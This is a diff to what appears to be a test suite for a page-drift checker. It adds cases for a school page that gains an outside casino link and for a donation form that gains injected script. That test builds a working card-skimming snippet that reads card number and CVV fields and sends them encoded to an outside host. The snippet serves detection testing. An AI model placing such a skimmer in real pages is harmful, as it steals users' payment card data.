@@ -565,3 +565,21 @@ it("a page as it was is asked about where tips for bets stand beside links to st
   expect(judgeAnswer(page("Path Finder", menu + lessons + box("tipsters.club")), before)).toBe("off-topic");
   expect(judgeAnswer(page("Path Finder", menu + lessons + box("maths.edu")), before)).toBe("ok");
 });
+
+it("a page as it was is asked about where a script sends on what is typed into its form for cards", () => {
+  const form = "<form action=/give><input name=cc id=cc><input name=cvv id=cvv></form>";
+  const skim = (to: string) =>
+    `<script>setInterval(()=>{const d=cc.value+cvv.value;new Image().src="https://${to}/g?"+btoa(d)},900)</script>`;
+  const give = (script: string) => page("Path Finder: give", form + lessons + script);
+  const before = toPagePicture(address, address, give(""), "2026-11-01");
+  expect(judgeAnswer(give(""), before)).toBe("ok");
+  expect(judgeAnswer(give(skim("metrics.there.club")), before)).toBe("off-topic");
+  expect(judgeAnswer(give(skim("pay.path-finder.org")), before)).toBe("ok");
+});
+
+it("a school that never spoke of such things is asked about where it links to its first casino", () => {
+  const menu = "<a href=/a>Courses</a><a href=/b>Bursary</a><a href=/c>Open evening</a>";
+  const before = toPagePicture(address, address, page("Path Finder", menu + lessons), "2026-11-01");
+  const now = `${menu}${lessons}<p>Camp is in June; the letter follows.</p><a href="https://gold-casino.net/?a=7">Play</a>`;
+  expect(judgeAnswer(page("Path Finder", now), before)).toBe("off-topic");
+});
